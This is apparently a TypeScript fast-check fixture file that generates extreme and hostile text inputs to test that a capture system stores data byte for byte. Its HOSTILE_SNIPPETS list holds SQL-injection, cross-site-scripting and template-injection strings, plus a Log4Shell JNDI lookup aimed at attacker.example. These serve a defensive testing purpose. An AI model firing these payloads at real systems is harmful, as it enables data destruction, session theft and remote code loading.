/**
 * Valid but extreme captures: every field at or near its maximum, text from every corner
 * of Unicode (emoji and their joiners, right-to-left text and direction overrides,
 * combining marks, astral letters, noncharacters, line and paragraph separators), and the
 * payloads injection attacks are made of. The contract accepts all of it, so the system
 * must store it and give it back byte for byte.
 */
import fc from 'fast-check';

export const HOSTILE_SNIPPETS = [
  "'; DROP TABLE event_store.events; --",
  "' OR '1'='1' --",
  'Robert"); DELETE FROM read_models.dream_summary;--',
  '<script>alert(document.cookie)</script>',
  '<img src=x onerror=alert(1)>',
  '"><svg/onload=alert(1)>',
  '{{7*7}} ${7*7} <%= 7*7 %>',
  '${jndi:ldap://attacker.example/a}',
  '\\u0000 is only text here, \\ud800 too',
  '%00%27%22 %E2%80%AE',
  '\u202eevil.exe\u202c txt.pdf',
  'مرحبا بالعالم، هذه فكرة',
  'שלום עולם — רעיון חדש',
  '👩‍👩‍👧‍👦 🏳️‍🌈 👍🏽 🇺🇦',
  'Z̤͔ͧ̑̓ä͖̭̈̇lͮ̒ͫǧ̗͚̚o̙̔ͮ̇͐̇',
  '𝕳𝖊𝖑𝖑𝖔 𐍈 𓀀 𠜎',
  'line\u2028separator\u2029paragraph',
  'tab\tcr\rlf\ncrlf\r\n',
  'bom\ufeffinside, nonchar \uffff \ufffe',
  'null undefined NaN [] {} true',
  'back\\slash "quotes" \'single\'',
  '\u0001\u0007\u001b[31mansi\u001b[0m\u007f',
];

/** Code points of a string (what the contract's lengths count). */
export const codePoints = (text: string): number => [...text].length;

const clip = (text: string, max: number): string => [...text].slice(0, max).join('');

/** A text of hostile pieces and random code points (any but NUL), at most `max` code points. */
function text(maxPieces: number, max: number): fc.Arbitrary<string> {
  const piece = fc.oneof(
    fc.constantFrom(...HOSTILE_SNIPPETS),
    fc.string({ unit: 'grapheme', maxLength: 12 }),
    fc.string({ unit: 'binary', maxLength: 12 }).map((value) => value.replaceAll('\u0000', '')),
  );
  return fc.array(piece, { minLength: 1, maxLength: maxPieces }).map((pieces) => clip(pieces.join(''), max));
}

/** A title the domain keeps as it is: between `min` and `max` code points, nothing for `trim` to remove. */
function title(min: number, max: number): fc.Arbitrary<string> {
  return text(20, max - 2).map((middle) => {
    const value = `«${middle}»`;
    return codePoints(value) >= min ? value : `${value}${'·'.repeat(min - codePoints(value))}`;
  });
}

const URLS = [
  'https://chat.example.com/c/%F0%9F%98%80?q=%27%22%3Cscript%3E&x=1#frag',
  'https://user:pass@[::1]:8443/a/b;c?d=e&f=g#h',
  'urn:isbn:0451450523',
  `https://example.com/${'a'.repeat(2_028)}`,
];

export interface ExtremeCapture {
  dreamTitle: string;
  brand: string;
  tags: string[];
  fragment: { title: string; content: string; source: string; url: string; mode: string; features: string[]; codeSnippets: { language: string; code: string }[] };
}

/** Captures with random extreme text, of moderate total size. */
export function extremeCaptures(): fc.Arbitrary<ExtremeCapture> {
  return fc.record({
    dreamTitle: title(3, 500),
    brand: fc.constantFrom('personal', 'bc-innovations', 'bc-studio', 'mpgworldwide', 'accordingto'),
    tags: fc.uniqueArray(title(1, 50), { maxLength: 50 }),
    fragment: fc.record({
      title: title(1, 500),
      content: text(200, 200_000).filter((value) => value.trim() !== ''),
      source: fc.stringMatching(/^[a-z0-9][a-z0-9._-]{0,49}$/),
      url: fc.constantFrom(...URLS),
      mode: fc.constantFrom('all', 'last5', 'selected'),
      features: fc.array(text(5, 500), { maxLength: 20 }),
      codeSnippets: fc.array(fc.record({ language: text(2, 50), code: text(30, 100_000) }), { maxLength: 5 }),
    }),
  });
}

const repeatTo = (unit: string, count: number): string => Array.from({ length: count }, (_, index) => [...unit][index % [...unit].length]).join('');

/**
 * The largest captures the contract allows that still fit the gateway's 1 MB body limit:
 * the content at its maximum in four-byte characters, and every other field at its maximum.
 */
export function maximalCaptures(): { label: string; capture: ExtremeCapture }[] {
  const emoji = '🙂🚀🏳️‍🌈ש𝕳';
  return [
    {
      label: 'content at 200,000 code points, mostly four-byte',
      capture: {
        dreamTitle: `«${repeatTo(emoji, 498)}»`,
        brand: 'personal',
        tags: ['max'],
        fragment: { title: `«${repeatTo('ع', 498)}»`, content: repeatTo(`${emoji}x`, 200_000), source: 'chatgpt', url: URLS[0]!, mode: 'all', features: [], codeSnippets: [] },
      },
    },
    {
      label: 'every other field at its maximum',
      capture: {
        dreamTitle: `«${repeatTo(HOSTILE_SNIPPETS.join(' '), 498)}»`,
        brand: 'accordingto',
        tags: Array.from({ length: 50 }, (_, index) => `«${repeatTo(`${index}${HOSTILE_SNIPPETS[index % HOSTILE_SNIPPETS.length]!.replace(/\s/g, '')}`, 48)}»`),
        fragment: {
          title: `«${repeatTo('<b>"\'</b>', 498)}»`,
          content: repeatTo(`${HOSTILE_SNIPPETS.join('\n')}\n`, 150_000),
          source: `z${'.-_9'.repeat(12)}z`,
          url: URLS[3]!,
          mode: 'selected',
          features: Array.from({ length: 100 }, (_, index) => repeatTo(`${index}: ${HOSTILE_SNIPPETS[index % HOSTILE_SNIPPETS.length]} `, 500)),
          codeSnippets: [{ language: repeatTo('sql', 50), code: repeatTo("SELECT * FROM users WHERE name = '' OR 1=1; -- ", 100_000) }],
        },
      },
    },
  ];
}
